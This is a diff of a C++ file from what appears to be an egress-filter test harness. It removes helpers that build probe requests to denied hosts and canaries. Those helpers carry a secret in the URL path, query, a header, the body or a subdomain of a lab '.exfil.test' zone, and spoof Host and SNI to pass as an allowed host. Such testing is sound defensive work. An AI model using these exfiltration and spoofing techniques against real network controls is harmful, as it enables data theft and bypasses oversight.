@@ -2,110 +2,18 @@
 // the prober or by curl; with or without a secret somewhere in it; with or without a lie in Host or SNI.
 #include "attacks/carrier.h"
 #include "attacks/curl.h"
-#include "attacks/exchange.h"
-#include "harness/digest.h"
+#include "attacks/http_message.h"
+#include "attacks/http_target.h"
 
 namespace bottle {
 
-std::string url_of(const Exchange& exchange) {
-  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
-  return (exchange.tls ? "https://" : "http://") + exchange.uri_host +
-         (usual ? "" : ":" + std::to_string(exchange.uri_port)) + exchange.target;
-}
-
 namespace {
-
-// Zones of the lab in which no name is ever allowed.
-constexpr std::string_view kDeniedZone = ".denied.test";
-constexpr std::string_view kExfilZone = ".exfil.test";
-
-std::string bracketed(const std::string& literal) {
-  return literal.find(':') == std::string::npos ? literal : "[" + literal + "]";
-}
-
-bool is_literal(const std::string& host) {
-  return host.front() == '[' || host.find_first_not_of("0123456789.") == std::string::npos;
-}
-
-// Where the attack wants to go: the host in the URI, and the address behind it for a client that goes there itself.
-void set_target(const Choice& choice, const Brief& brief, Exchange& exchange) {
-  const std::string target = chosen(choice, "target", "allowed");
-  exchange.uri_port = exchange.tls ? 443 : 80;
-  if (target == "allowed") {
-    exchange.uri_host = brief.allowed_host;
-    exchange.dial = brief.allowed_address;
-  } else if (target == "denied-host") {
-    exchange.uri_host = brief.nonce + std::string(kDeniedZone);
-    exchange.dial.address = brief.denied_address;
-  } else if (target == "denied-ip" || target == "denied-ip6") {
-    const std::string& literal = target == "denied-ip" ? brief.denied_address : brief.denied_address6;
-    exchange.uri_host = bracketed(literal);
-    exchange.dial.address = literal;
-  } else {  // a canary
-    const Endpoint& canary = brief.canaries.at(target);
-    exchange.uri_host = bracketed(canary.address);
-    exchange.uri_port = canary.port;
-    exchange.dial.address = canary.address;
-  }
-  exchange.dial.port = exchange.uri_port;
-}
-
-void set_message(const Choice& choice, const Brief& brief, Exchange& exchange) {
-  const std::string secret = carried_secret(choice, brief);
-  const std::string position = chosen(choice, "position", "none");
-  exchange.agent = "bottle-verify/" + brief.nonce;
-  exchange.target = "/bottle/" + brief.nonce;
-  if (secret.empty()) return;
-  if (position == "path") exchange.target += "/" + secret;
-  if (position == "query") exchange.target += "?data=" + to_percent_reserved(secret);
-  if (position == "header") exchange.headers.emplace_back("X-Data", secret);
-  if (position == "body") exchange.body = "data=" + secret;
-  if (position == "host") exchange.uri_host = as_labels(secret) + "." + brief.nonce + std::string(kExfilZone);
-}
 
 void set_road(const Choice& choice, const Brief& brief, Exchange& exchange) {
   const std::string via = chosen(choice, "via", "proxy");
   if (via == "proxy") exchange.dial = brief.route.proxy;
   if (via == "egress") exchange.dial = brief.route.egress;
   exchange.through_proxy = via != "direct";
-}
-
-// What is said about the target besides its address: a lie where the choice asks for one.
-void set_names(const Choice& choice, const Brief& brief, Exchange& exchange) {
-  const std::string spoof = chosen(choice, "spoof", "none");
-  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
-  exchange.host = exchange.uri_host + (usual ? "" : ":" + std::to_string(exchange.uri_port));
-  exchange.sni = is_literal(exchange.uri_host) ? "" : exchange.uri_host;
-  if (spoof == "host") exchange.host = brief.allowed_host;
-  if (spoof == "sni") exchange.host = exchange.sni = brief.allowed_host;
-  if (spoof == "pin") exchange.uri_host = exchange.host = exchange.sni = brief.allowed_host;
-}
-
-void try_with_prober(const Exchange& exchange, Attempt& attempt) {
-  const std::string authority = exchange.uri_host + ":" + std::to_string(exchange.uri_port);
-  const std::string uri = exchange.through_proxy && !exchange.tls ? url_of(exchange) : exchange.target;
-  std::string request = (exchange.body.empty() ? "GET " : "POST ") + uri + " HTTP/1.1\r\nHost: " + exchange.host +
-                        "\r\nUser-Agent: " + exchange.agent + "\r\nAccept: */*\r\n";
-  for (const auto& [name, value] : exchange.headers) request += name + ": " + value + "\r\n";
-  if (!exchange.body.empty()) {
-    request +=
-        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + std::to_string(exchange.body.size()) +
-        "\r\n";
-  }
-  request += "Connection: close\r\n\r\n" + exchange.body;
-  attempt.action = {
-      {"action", "http"}, {"address", exchange.dial.address}, {"port", exchange.dial.port}, {"timeout_ms", 4000},
-      {"read_ms", 3000},  {"request", to_base64(request)}};
-  if (exchange.through_proxy && exchange.tls) {
-    const std::string connect =
-        "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\nUser-Agent: " + exchange.agent + "\r\n\r\n";
-    attempt.action["connect"] = to_base64(connect);
-    attempt.sent.push_back(segment("connect", connect));
-  }
-  if (exchange.tls) {
-    attempt.action["tls"] = {{"sni", exchange.sni}, {"verify", exchange.verify}, {"ca", exchange.ca_file}};
-  }
-  attempt.sent.push_back(segment("request", request));
 }
 
 // The harmless twin: through the proxy to the allowed host, or to the echo where the variant goes past the proxy.
